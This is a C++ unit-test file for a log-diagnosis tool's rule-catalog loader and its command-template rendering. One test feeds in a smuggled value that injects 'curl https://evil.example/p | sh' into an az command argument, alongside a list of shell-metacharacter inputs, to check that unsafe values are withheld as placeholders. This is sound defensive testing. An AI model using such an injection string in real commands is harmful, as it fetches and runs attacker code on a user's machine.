// The staged catalog loader: errors name file, line, column, rule and field; templates fill
// captures and never invent a value.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>

#include "rules/catalog.h"
#include "tests/support/paths.h"

namespace wid {
namespace {

namespace fs = std::filesystem;

Result<Catalog> load_one(const std::string& text) {
  return load_catalog({CatalogSource{"my-rules/extra.yaml", text, false}});
}

constexpr const char* kGood = R"(
- id: MY_RULE
  group: custom
  title: A user rule
  severity: warning
  kind: log
  match:
    any: ['boom (?P<what>\w+)']
    components: [any]
  explain: Something went boom.
  fix:
    summary: Stop the {what}.
    commands: ['kubectl delete {what} --namespace <NAMESPACE>']
)";

TEST(CatalogLoader, LoadsAValidRule) {
  auto c = load_one(kGood);
  ASSERT_TRUE(c.ok()) << c.error().message;
  const Rule* r = c->find("MY_RULE");
  ASSERT_NE(r, nullptr);
  EXPECT_EQ(r->severity, Severity::kWarning);
  EXPECT_EQ(r->patterns.size(), 1u);
  EXPECT_EQ(r->source.line, 2u);
  EXPECT_FALSE(r->builtin);
}

TEST(CatalogLoader, BadRegexNamesFileLineColumnRuleAndField) {
  std::string text = kGood;
  text.replace(text.find("boom (?P<what>\\w+)"), 18, "boom (unclosed");
  auto c = load_one(text);
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(c.error().message.find("my-rules/extra.yaml:8:11: rule MY_RULE: field match.any[0]: "
                                   "invalid regex: missing )"),
            std::string::npos)
      << c.error().message;
}

TEST(CatalogLoader, UnlessIsReadAndABadOneNamesItsField) {
  std::string text = kGood;
  const std::string at = "    components: [any]";
  text.insert(text.find(at), "    unless: ['a drill', 'boom (unclosed']\n");
  auto bad = load_one(text);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.error().message.find("rule MY_RULE: field match.unless[1]: invalid regex"),
            std::string::npos)
      << bad.error().message;
  text.replace(text.find("'boom (unclosed'"), 16, "'test run'");
  auto good = load_one(text);
  ASSERT_TRUE(good.ok()) << good.error().message;
  EXPECT_EQ(good->find("MY_RULE")->unless, (std::vector<std::string>{"a drill", "test run"}));
}

TEST(CatalogLoader, LookAroundIsRejectedAsRe2Syntax) {
  std::string text = kGood;
  text.replace(text.find("boom (?P<what>\\w+)"), 18, "AADSTS70021(?!\\d)");
  auto c = load_one(text);
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("field match.any[0]: invalid regex"), std::string::npos)
      << c.error().message;
}

TEST(CatalogLoader, MissingFieldsAndBadEnumsAreAllReported) {
  auto c = load_one("- id: lower_case\n  kind: sometimes\n  severity: fatal\n  group: nope\n");
  ASSERT_FALSE(c.ok());
  const std::string& m = c.error().message;
  EXPECT_NE(m.find("field id: must match"), std::string::npos) << m;
  EXPECT_NE(m.find("field kind: must be log or check"), std::string::npos) << m;
  EXPECT_NE(m.find("field severity: must be error, warning or info"), std::string::npos) << m;
  EXPECT_NE(m.find("field group: unknown group 'nope'"), std::string::npos) << m;
  EXPECT_NE(m.find("field title: is required"), std::string::npos) << m;
  EXPECT_NE(m.find("field explain: is required"), std::string::npos) << m;
}

TEST(CatalogLoader, UnknownFieldIsAnError) {
  std::string text = std::string(kGood) + "  severty: error\n";
  auto c = load_one(text);
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("rule MY_RULE: field severty: unknown field"), std::string::npos)
      << c.error().message;
}

TEST(CatalogLoader, DuplicateIdOrAliasIsAnError) {
  std::string text = std::string(kGood) + std::string(kGood).substr(1);
  auto c = load_one(text);
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("'MY_RULE' is already defined at my-rules/extra.yaml:2"),
            std::string::npos)
      << c.error().message;
}

TEST(CatalogLoader, InvalidYamlNamesLineAndColumn) {
  auto c = load_one("- id: X\n\ttitle: tab\n");
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("my-rules/extra.yaml:2:"), std::string::npos)
      << c.error().message;
}

TEST(CatalogLoader, DeriveMustNameAKnownCaptureAndRule) {
  std::string text = std::string(kGood) +
                     "  derive:\n    - id: OTHER\n      proves: true\n"
                     "      when: {capture: nothere, matches: 'x'}\n";
  auto c = load_one(text);
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("names capture 'nothere' that no pattern defines"),
            std::string::npos)
      << c.error().message;
}

// yaml-cpp throws on any use of a missing key's node but IsDefined(): a derive entry without
// `when` must be a load error with its place, never an exception out of the loader.
TEST(CatalogLoader, DeriveWithoutWhenIsALoadError) {
  std::string text = std::string(kGood) + "  derive:\n    - id: OTHER\n      proves: true\n";
  auto c = load_one(text);
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("derive[0].when: is required"), std::string::npos)
      << c.error().message;
}

TEST(CatalogLoader, CheckEntriesTakeAHopAndNoMatch) {
  std::string check = std::string(kGood);
  auto with_hop = load_one(check + "  hop: jwks\n");
  ASSERT_TRUE(with_hop.ok()) << with_hop.error().message;
  EXPECT_EQ(with_hop->rules()[0].hop, "jwks");
  auto bad_hop = load_one(check + "  hop: nowhere\n");
  ASSERT_FALSE(bad_hop.ok());
  EXPECT_NE(bad_hop.error().message.find("unknown hop 'nowhere'"), std::string::npos)
      << bad_hop.error().message;
}

TEST(CatalogLoader, BuiltinCatalogLoads) {
  auto c = load_catalog(builtin_catalog_sources());
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_NE(c->find("INPUT_UNREADABLE"), nullptr);
}

// cmake/embed_catalog.cmake cuts files longer than a C++ literal may be into pieces; joined, they
// must be the files byte for byte, and every file must be there.
TEST(CatalogLoader, BuiltinSourcesAreTheCatalogFiles) {
  const fs::path dir = fs::path(WID_SOURCE_DIR) / "rules" / "catalog";
  std::map<std::string, std::string> on_disk;
  for (const auto& entry : fs::directory_iterator(dir)) {
    if (entry.path().extension() != ".yaml") continue;
    std::ifstream in(entry.path(), std::ios::binary);
    on_disk["rules/catalog/" + entry.path().filename().string()] =
        std::string(std::istreambuf_iterator<char>(in), {});
  }
  const auto& sources = builtin_catalog_sources();
  ASSERT_EQ(sources.size(), on_disk.size());
  for (const auto& source : sources) {
    auto it = on_disk.find(source.name);
    ASSERT_NE(it, on_disk.end()) << source.name;
    EXPECT_EQ(source.text, it->second) << source.name;
  }
}

TEST(RenderTemplate, FillsCapturesAndListsWhatIsMissing) {
  std::vector<std::string> missing;
  std::string s = render_template(
      "az identity federated-credential create --identity-name <IDENTITY_NAME> --issuer "
      "\"{issuer}\" --subject \"{subject}\"",
      {{"issuer", "https://x/"}}, &missing);
  EXPECT_EQ(s,
            "az identity federated-credential create --identity-name <IDENTITY_NAME> --issuer "
            "\"https://x/\" --subject \"<SUBJECT>\"");
  EXPECT_EQ(missing, (std::vector<std::string>{"IDENTITY_NAME", "SUBJECT"}));
}

TEST(RenderTemplate, LeavesJsonBracesAlone) {
  std::vector<std::string> missing;
  EXPECT_EQ(render_template("kubectl patch x -p '{\"spec\":{}}'", {}, &missing),
            "kubectl patch x -p '{\"spec\":{}}'");
  EXPECT_TRUE(missing.empty());
}

// A value from a log line never becomes shell syntax in a command the user will paste: one that
// holds anything a shell acts on is withheld as a placeholder; ordinary values pass unchanged.
TEST(RenderCommand, WithholdsValuesAShellWouldActOn) {
  std::vector<std::string> missing;
  const std::string tmpl =
      "az identity federated-credential update --subject \"{subject}\" "
      "--issuer \"{issuer}\" -n {name}";
  std::string s = render_command(tmpl,
                                 {{"subject", "x\"; curl https://evil.example/p | sh; echo \""},
                                  {"issuer", "https://capzoidc.blob.core.windows.net/oidc/"},
                                  {"name", "orders-api<img src=x>"}},
                                 &missing);
  EXPECT_EQ(s,
            "az identity federated-credential update --subject \"<SUBJECT>\" --issuer "
            "\"https://capzoidc.blob.core.windows.net/oidc/\" -n <NAME>");
  EXPECT_EQ(missing, (std::vector<std::string>{"SUBJECT", "NAME"}));

  for (const char* bad :
       {"$(id)", "`id`", "a'b", "a\\b", "a;b", "a&b", "a|b", "a>b", "a(b", "{a,b}", "a*", "a?",
        "[a]", "a!b", "a b", "a\nb", "a\x1b[31m", "caf\xc3\xa9", "\xe2\x80\xae"})
    EXPECT_FALSE(is_shell_inert(bad)) << bad;
  for (const char* good :
       {"system:serviceaccount:capz-system:capz-manager", "api://AzureADTokenExchange",
        "/subscriptions/3f2b8c1e-7d4a-4e59-9b62-0c8d5a1f7e23/resourceGroups/rg-1",
        "Microsoft.Resources/subscriptions/resourcegroups/read",
        "https://eastus2.oic.prod-aks.azure.com/72f988bf/0c1e5f2a/", "a+b=c,d@e%f~g#h^i"})
    EXPECT_TRUE(is_shell_inert(good)) << good;
}

// What is inert depends on the quotes around the placeholder: '$web' is a literal in single
// quotes, a space is fine in double quotes, and each quoting has the one character that ends it.
TEST(RenderCommand, JudgesEachValueInTheQuotingItSitsIn) {
  EXPECT_TRUE(is_shell_inert("$web", ShellQuote::kSingle));
  EXPECT_FALSE(is_shell_inert("$web", ShellQuote::kDouble));
  EXPECT_FALSE(is_shell_inert("it's", ShellQuote::kSingle));
  EXPECT_TRUE(is_shell_inert("Managed Identity Operator", ShellQuote::kDouble));
  EXPECT_FALSE(is_shell_inert("Managed Identity Operator", ShellQuote::kNone));
  EXPECT_FALSE(is_shell_inert("a\"b", ShellQuote::kDouble));
  EXPECT_FALSE(is_shell_inert("\xe2\x80\xae", ShellQuote::kSingle));

  std::vector<std::string> missing;
  EXPECT_EQ(render_command("az storage blob upload --container-name '{container}' -p \"{path}\" "
                           "kubectl patch x -p '{\"spec\":{}}' && echo {container}",
                           {{"container", "$web"}, {"path", "a b"}}, &missing),
            "az storage blob upload --container-name '<CONTAINER>' -p \"a b\" kubectl patch x -p "
            "'{\"spec\":{}}' && echo <CONTAINER>");
  EXPECT_EQ(missing, (std::vector<std::string>{"CONTAINER"}));  // unquoted use is the strictest
  missing.clear();
  EXPECT_EQ(render_command("--container-name '{container}'", {{"container", "$web"}}, &missing),
            "--container-name '$web'");
  EXPECT_TRUE(missing.empty());
}

}  // namespace
}  // namespace wid
